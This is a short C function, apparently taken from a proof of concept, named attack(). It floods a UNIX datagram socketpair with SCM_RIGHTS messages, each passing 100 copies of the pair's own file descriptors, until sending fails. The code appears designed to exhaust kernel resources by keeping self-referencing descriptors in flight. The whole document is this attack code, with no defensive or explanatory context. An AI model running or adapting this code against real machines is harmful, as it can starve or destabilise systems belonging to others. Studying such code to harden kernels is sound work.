static void attack(void)
{
    int pair[2];
    socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
    char control[CMSG_SPACE(sizeof(int) * 100)];
    for (int i = 0; i < 1000; ++i) {
        struct iovec part = {"x", 1};
        struct msghdr message = {0};
        message.msg_iov = &part;
        message.msg_iovlen = 1;
        message.msg_control = control;
        message.msg_controllen = sizeof control;
        struct cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET;
        head->cmsg_type = SCM_RIGHTS;
        head->cmsg_len = CMSG_LEN(sizeof(int) * 100);
        for (int k = 0; k < 100; ++k)
            ((int *)CMSG_DATA(head))[k] = pair[k & 1];
        if (sendmsg(pair[0], &message, MSG_DONTWAIT) < 0)
            break;
    }
}
